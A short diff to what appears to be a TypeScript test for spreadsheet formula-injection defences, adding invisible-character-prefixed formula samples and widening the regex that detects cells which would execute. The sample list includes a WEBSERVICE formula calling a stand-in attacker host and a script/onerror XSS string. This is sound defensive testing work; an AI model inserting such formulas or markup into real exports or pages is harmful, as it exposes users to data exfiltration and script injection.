@@ -25,10 +25,12 @@ const FORMULAS: readonly string[] = [
   '=WEBSERVICE("http://evil.example")',
   ',=1+1',
   ';=1+1',
+  '\u0001=1+1',
+  '\ufeff\u200b=1+1',
 ];
 const MARKUP = '<script>alert(1)</script><img src=x onerror=alert(1)>';
-/** What runs when a cell begins with it. */
-const RUNS = /^[=+\-@\t\r]/;
+/** What runs when a cell begins with it, also in a program that drops what shows nothing. */
+const RUNS = /^[\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]*[=+\-@\t\r]/u;
 const A_NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?%?$/i;
 
 /** A hostile text, in whatever form: an export that has none proves nothing. */
